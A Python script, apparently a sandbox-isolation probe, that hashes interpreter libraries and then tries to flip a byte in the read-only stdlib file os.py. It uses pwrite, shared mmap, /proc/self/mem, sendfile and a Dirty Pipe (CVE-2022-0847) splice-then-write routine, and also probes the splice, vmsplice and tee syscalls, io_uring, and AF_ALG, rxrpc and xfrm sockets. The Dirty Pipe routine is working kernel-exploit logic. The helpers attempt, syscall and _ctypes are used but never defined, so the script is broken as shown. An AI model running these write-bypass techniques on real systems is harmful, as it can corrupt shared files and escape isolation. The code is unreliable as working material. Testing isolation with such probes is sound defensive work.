# Change the pages that all runs share, without a file that can be written.
import glob
import hashlib
import mmap
import os
import socket
import sys
import sysconfig

stdlib = sysconfig.get_path("stdlib")
TARGET = os.__file__
LIBRARIES = sorted(
    {os.path.realpath(sys.executable), TARGET}
    | set(glob.glob(stdlib + "/lib-dynload/*.so")[:20])
    | {line.split(maxsplit=5)[5].strip() for line in open("/proc/self/maps") if ".so" in line})


def digest():
    whole = hashlib.sha256()
    for path in LIBRARIES:
        if os.path.exists(path):
            with open(path, "rb") as file:
                whole.update(file.read())
    return whole.hexdigest()


def flip(write):
    with open(TARGET, "rb") as file:
        last = os.path.getsize(TARGET) - 1
        old = os.pread(file.fileno(), 1, last)
    write(last, {b"\n": b" ", b" ": b"\t"}.get(old, b"\n"))
    with open(TARGET, "rb") as file:
        return os.pread(file.fileno(), 1, last) != old and TARGET


def by_write(at, byte):
    fd = os.open(TARGET, os.O_RDWR)
    os.pwrite(fd, byte, at)
    os.close(fd)


def by_map(at, byte):
    fd = os.open(TARGET, os.O_RDWR)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED) as pages:
        pages[at] = byte[0]
    os.close(fd)


def by_memory(at, byte):
    # A mapping that may not be written, through the file that may write all of memory.
    fd = os.open(TARGET, os.O_RDONLY)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ):
        base = None
        for line in open("/proc/self/maps"):
            if line.rstrip().endswith(TARGET):
                base = int(line.split("-")[0], 16)
        memory = os.open("/proc/self/mem", os.O_RDWR)
        os.pwrite(memory, byte, base + at)
        os.close(memory)
    os.close(fd)


def by_sendfile(at, byte):
    # The file as the target of a copy inside the kernel.
    fd = os.open(TARGET, os.O_RDONLY)
    source = os.memfd_create("source")
    os.write(source, byte)
    os.lseek(source, 0, 0)
    os.lseek(fd, at, 0)
    os.sendfile(fd, source, 0, 1)


def dirty_pipe(at, byte):
    # A page of the file in a pipe, then a write into the pipe: the gate of CVE-2022-0847.
    fd = os.open(TARGET, os.O_RDONLY)
    read, write = os.pipe()
    for _ in range(16):
        os.write(write, b"x" * 4096)
    os.read(read, 65536)
    offset = _ctypes.c_longlong(at - 1)
    syscall(275, fd, _ctypes.byref(offset), write, 0, 1, 0)
    os.write(write, byte)


def vmsplice():
    _read, write = os.pipe()
    text = _ctypes.create_string_buffer(b"x" * 64)
    vector = (_ctypes.c_uint64 * 2)(_ctypes.addressof(text), 64)
    return f"{syscall(278, write, _ctypes.byref(vector), 1, 0)} bytes by reference"


def splice():
    fd = os.open(TARGET, os.O_RDONLY)
    _read, write = os.pipe()
    return f"{syscall(275, fd, None, write, 0, 64, 0)} bytes by reference"


def tee():
    first, second = os.pipe(), os.pipe()
    os.write(first[1], b"x")
    return f"{syscall(276, first[0], second[1], 1, 0)} bytes by reference"


def open_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "a socket"


def ring():
    params = (_ctypes.c_uint8 * 120)()
    return f"ring {syscall(425, 4, _ctypes.byref(params))}"


print("LIBRARIES", digest(), flush=True)
attempt("splice", splice)
attempt("vmsplice", vmsplice)
attempt("tee", tee)
attempt("alg", open_socket, 38, socket.SOCK_SEQPACKET, 0)
attempt("rxrpc", open_socket, 33, socket.SOCK_DGRAM, 2)
attempt("xfrm", open_socket, 16, socket.SOCK_RAW, 6)
attempt("udp", open_socket, socket.AF_INET, socket.SOCK_DGRAM, 0)
attempt("ring", ring)
attempt("write", flip, by_write)
attempt("map", flip, by_map)
attempt("memory", flip, by_memory)
attempt("sendfile", flip, by_sendfile)
attempt("dirty_pipe", flip, dirty_pipe)
print("LIBRARIES", digest(), flush=True)
